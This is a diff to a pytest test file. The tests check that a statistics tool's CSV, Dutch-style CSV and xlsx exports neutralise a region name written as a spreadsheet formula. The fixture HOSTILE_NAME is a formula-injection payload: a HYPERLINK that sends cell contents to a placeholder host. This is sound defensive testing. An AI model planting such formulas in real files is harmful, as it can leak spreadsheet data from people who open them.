@@ -91,7 +91,7 @@ def test_live_mode_talks_https_to_cbs_only(tmp_path, request):
 HOSTILE_NAME = '=HYPERLINK("http://example.invalid/?"&A1,"Zwolle")'
 
 
-@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+@pytest.mark.parametrize("fmt", ["csv", "csv-nl", "xlsx"])
 def test_a_region_name_that_is_a_formula_stays_text_in_exports(
     warehouse_path, tmp_path, monkeypatch, fmt, request
 ):
@@ -118,15 +118,19 @@ def test_a_region_name_that_is_a_formula_stays_text_in_exports(
     out = tmp_path / "out"
     args = ["export", "bevolking_totaal", "--regions", "GM0193", "--format", fmt, "--out", str(out)]
     assert main(args) == EXIT_OK
-    [data] = [p for p in out.iterdir() if p.suffix == f".{fmt}"]
+    [data] = [p for p in out.iterdir() if p.suffix == {"csv-nl": ".csv"}.get(fmt, f".{fmt}")]
     if fmt == "csv":
         names = set(pd.read_csv(data)["region_name"])
+        assert names == {"'" + HOSTILE_NAME}  # OWASP: a leading ' so it is never run
+        seen = f"CSV cell: {next(iter(names))}"
+    elif fmt == "csv-nl":
+        names = set(pd.read_csv(data, sep=";", encoding="utf-8-sig")["regio"])
         assert names == {"'" + HOSTILE_NAME}  # OWASP: a leading ' so it is never run
         seen = f"CSV cell: {next(iter(names))}"
     else:
         sheet = openpyxl.load_workbook(data).worksheets[0]
         header = [c.value for c in sheet[1]]
-        cell = sheet.cell(2, header.index("region_name") + 1)
+        cell = sheet.cell(2, header.index("regio") + 1)
         assert (cell.value, cell.data_type) == (HOSTILE_NAME, "s")  # text, not a formula
         seen = f"xlsx cell type {cell.data_type!r} (text), value shown as it is"
     reliability_row(
